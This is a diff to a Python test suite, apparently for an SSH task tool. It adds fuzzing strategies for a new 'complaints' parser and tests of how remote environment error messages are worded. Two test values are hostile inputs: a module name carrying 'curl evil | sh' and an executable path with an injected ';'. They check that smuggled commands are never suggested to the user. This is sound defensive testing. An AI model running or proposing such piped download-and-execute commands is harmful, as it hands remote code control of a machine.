@@ -16,9 +16,12 @@ from hypothesis import strategies as st
 from support import parsers
 from support.unpickling import nothing_unpickled
 
+from covalent_sshtiming import outcomes
+from covalent_sshtiming.host.task import Outcome
+
 GOLDEN: list[dict[str, Any]] = json.loads((Path(__file__).parent / "golden" / "frames.json").read_text())
-BUILT = 200  # examples for each of six parsers that are built from nothing
-EDITED = 3800  # and that are sound ones with a few edits, which costs a tenth of that
+BUILT = 160  # examples for each of seven parsers that are built from nothing
+EDITED = 3200  # and that are sound ones with a few edits, which costs a tenth of that
 EDITED_ON_DISK = 1000  # of those, where each makes files
 
 scalars: st.SearchStrategy[Any] = st.sampled_from(
@@ -48,6 +51,7 @@ odd_json = st.sampled_from(
 TOKENS = [
     b"{M}",
     b"{H}",
+    b"{S}",
     b"\n",
     b"[]",
     b"null",
@@ -131,6 +135,17 @@ BUILDS: dict[str, st.SearchStrategy[bytes]] = {
         ).map(b"\n".join),
         max_size=5,
     ).map(b"\n".join),
+    "complaints": st.builds(
+        lambda facts, cut, steps: facts + b"\n" + cut + b"".join(steps),
+        objects("refused", "python", "executable", "conda", "found", "text"),
+        cuts,
+        st.lists(
+            st.sampled_from(
+                [b"0", b"1", b"2", b"\xc2\xb2", b"conda", b"conda-by x", b"no-python", b"done"]
+            ).flatmap(lambda step: st.binary(max_size=20).map(lambda said: b"{S}" + step + b"\n" + said)),
+            max_size=4,
+        ),
+    ),
 }
 
 
@@ -187,3 +202,25 @@ def test_seeds_of_the_fuzzer_are_sound(name: str) -> None:
         for at in range(len(seed)):
             parser(seed[:at])
             parser(seed[:at] + bytes([seed[at] ^ 0x41]) + seed[at + 1 :])
+
+
+def _worded(told: dict[str, Any], deeper: int = 0) -> str:
+    if deeper:
+        return _worded(told, deeper - 1)
+    ended = {"status": "failed", "error": told}
+    return str(outcomes.error_of(Outcome(ended, b"", b"", {"executable": "/x; y"}, {}), "far", "f"))
+
+
+def test_what_is_no_text_is_not_put_into_words() -> None:
+    """A list so deep that reading it back needs all of the stack is worded as nothing at all."""
+    deep = json.loads("[" * 800 + "]" * 800)
+    for name in ("class", "text", "traceback", "module", "phase"):
+        assert _worded({"class": "RemoteEnvError", "text": "t", name: deep}, deeper=300).startswith("far: f")
+
+
+def test_no_machine_words_a_command_for_us_to_type() -> None:
+    """A missing module is named with what to run only if it is a module's name; a path stays one word."""
+    said = _worded({"class": "RemoteEnvError", "text": "t", "module": "a.b_c"})
+    assert "run `'/x; y' -m pip install a.b_c` there" in said
+    said = _worded({"class": "RemoteEnvError", "text": "lacks x", "module": "x; curl evil | sh"})
+    assert said == "far: f: lacks x."
